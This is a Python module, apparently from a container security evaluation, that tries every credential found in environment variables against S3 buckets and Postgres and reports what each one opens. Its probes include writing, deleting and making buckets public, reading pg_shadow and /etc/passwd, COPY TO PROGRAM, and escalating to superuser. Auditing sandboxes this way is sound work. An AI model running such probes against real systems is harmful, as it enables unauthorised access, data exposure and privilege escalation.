"""In a container: what the keys of its own environment open; by the host's curl and psql."""

import hashlib
import os
import re
import subprocess
from glob import glob
from itertools import product

LENT = "/dev/mqueue"
"""Where the host's /usr is, for the intruder alone."""


def holdings(buckets: list[str], roles: list[str], s3: str, region: str, postgres: str) -> dict[str, object]:
    """What each bucket and database says to what this container knows, and digests of all that it knows."""
    return {
        "buckets": _buckets(buckets, s3, region),
        "databases": _databases(roles, postgres),
        "environment": sorted({digest(value) for value in os.environ.values()}),
    }


def digest(value: str) -> str:
    return hashlib.sha256(value.encode()).hexdigest()


def _values(pattern: str) -> set[str]:
    return {value for name, value in os.environ.items() if value and re.search(pattern, name)}


def _lent(program: str, *words: str, given: str = "", **environ: str) -> str:
    """What one of the host's programs prints; loaded by the host's loader, since this image has another."""
    (loader,) = glob(f"{LENT}/lib/*-linux-gnu/ld-linux*")
    argv = [loader, "--library-path", os.path.dirname(loader), f"{LENT}/{program}", *words]
    done = subprocess.run(
        argv, input=given, env=environ, capture_output=True, text=True, timeout=60, check=False
    )
    return done.stdout + done.stderr


def _buckets(buckets: list[str], s3: str, region: str) -> dict[str, str]:
    """`ask bucket`: the status of the answer to the first pair of keys that the store knows."""
    access, secret = (
        _values("(ACCESS_KEY|ACCESS_KEY_ID|S3_KEY)$"),
        _values("(SECRET_ACCESS_KEY|SECRET_KEY|S3_SECRET)$"),
    )
    asks = [
        (f"{what} {bucket}", method, f"{s3}/{bucket}{path}")
        for bucket in buckets
        for what, method, path in (
            ("lists", "GET", "?list-type=2"),
            ("reads", "GET", "/double/check.txt"),
            ("writes", "PUT", "/breach/none"),
            ("deletes", "DELETE", "/breach/none"),
            ("reads the policy of", "GET", "?policy="),
            ("opens to all", "PUT", "?acl="),
        )
    ]
    asks += [("lists all buckets", "GET", f"{s3}/"), ("makes a bucket", "PUT", f"{s3}/guildhall-breach")]
    for key in product(sorted(access), sorted(secret)):
        answers = _asked(asks, key, region)
        if set(answers) != {"403"}:
            return dict(zip((what for what, *_ in asks), answers, strict=True))
    return {}


ASK = """\
url = "{url}"
request = {method}
user = "{access}:{secret}"
aws-sigv4 = "aws:amz:{region}:s3"
output = /dev/null
write-out = "%{{http_code}}\\n"
max-time = 10
insecure
"""


def _asked(asks: list[tuple[str, str, str]], key: tuple[str, str], region: str) -> list[str]:
    """One curl for all; keys stand in what it reads, not among its arguments."""
    access, secret = key
    config = "next\n".join(
        ASK.format(url=url, method=method, access=access, secret=secret, region=region)
        + ('data = ""\n' if method == "PUT" else "")
        + ('header = "x-amz-acl: public-read"\n' if url.endswith("?acl=") else "")
        for _, method, url in asks
    )
    return _lent("bin/curl", "--silent", "--config", "-", given=config).split()


TRIES = {
    "reads passwords": "SELECT count(passwd) FROM pg_shadow",
    "runs a program": "COPY (SELECT 1) TO PROGRAM 'true'",
    "reads a file": "SELECT pg_read_file('/etc/passwd')",
    "imports a file": "SELECT lo_import('/etc/passwd')",
    "makes a role": "CREATE ROLE breach",
    "makes a database": "CREATE DATABASE breach",
    "becomes the administrator": "SET ROLE guildhall_admin",
    "gets all rights": "ALTER ROLE CURRENT_USER SUPERUSER",
    "loads a language": "CREATE EXTENSION plpython3u",
    "reads files as tables": "CREATE EXTENSION file_fdw",
    "sees what others ask": "SELECT 1 / count(*) FROM pg_stat_activity"
    " WHERE usename <> CURRENT_USER AND query LIKE 'SELECT%'",
}


EVERYBODYS = ("postgres", "template1")
"""Databases that any role enters: they tell the names of databases and roles, as a role's own does."""


def _databases(roles: list[str], postgres: str) -> dict[str, str]:
    """`connects to DATABASE`, and what is done there: `open` or `closed`, for the role that gets in."""
    for role, password in product(roles, sorted(_values("PASS"))):
        own = _psql(postgres, role, password, role, "".join(_tried_in(*each) for each in TRIES.items()))
        if "logged in" in own:
            done = dict(re.findall(r"^TRIED (.+): (.+)$", own, re.MULTILINE))
            others = [each for each in (*roles, *EVERYBODYS) if each != role]
            entered = {
                f"connects to {each}": "open"
                if "logged in" in _psql(postgres, role, password, each)
                else "closed"
                for each in others
            }
            return {f"connects to {role}": "open"} | entered | done | _writes(postgres, role, password)
    return {}


def _writes(postgres: str, role: str, password: str) -> dict[str, str]:
    script = _tried_in("makes a table", "CREATE TABLE breach ()")
    return {
        f"makes a table in {each}": "open"
        if "open" in _psql(postgres, role, password, each, script)
        else "closed"
        for each in EVERYBODYS
    }


def _tried_in(what: str, statement: str) -> str:
    told = f"\\echo TRIED {what}:"
    return f"{statement};\n\\if :ERROR\n{told} closed\n\\else\n{told} open\n\\endif\n"


def _psql(server: str, role: str, password: str, database: str, script: str = "") -> str:
    where = f"host={server} user={role} dbname={database} sslmode=require connect_timeout=5"
    (program,) = glob(f"{LENT}/lib/postgresql/*/bin/psql")
    return _lent(
        program.removeprefix(f"{LENT}/"),
        "-XAtq",
        "-f",
        "-",
        where,
        given=f"\\echo logged in\n{script}",
        PGPASSWORD=password,
    )
